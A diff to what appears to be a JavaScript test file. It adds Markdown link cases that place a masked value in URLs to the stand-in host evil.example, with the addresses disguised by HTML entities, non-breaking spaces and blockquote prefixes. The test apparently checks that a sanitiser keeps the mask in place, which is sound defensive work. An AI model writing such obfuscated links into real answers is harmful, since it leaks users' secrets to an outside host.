@@ -37,6 +37,10 @@ test('leaves a mask in the address of a link, wherever the answer is cut', () =>
     `[x](https&colon;//evil.example/${mask})`,
     `![x](\n  ${mask})`,
     `[x](<https://evil.example/ ${mask}>)`,
+    `[x](<h&#116;tps&colon;//evil.example/\\<\\> ${mask}>)`,
+    `[x](h&#116;tps&colon;//evil.example/\u00a0${mask})`,
+    `> [x](\n> h&#116;tps&colon;//evil.example/${mask})`,
+    `> [x]:\n> <h&#116;tps&colon;//evil.example/ ${mask}>`,
     `[x]: h&#116;tps&colon;//evil.example/${mask}`,
     `mailto:${mask}@evil.example`,
   ];
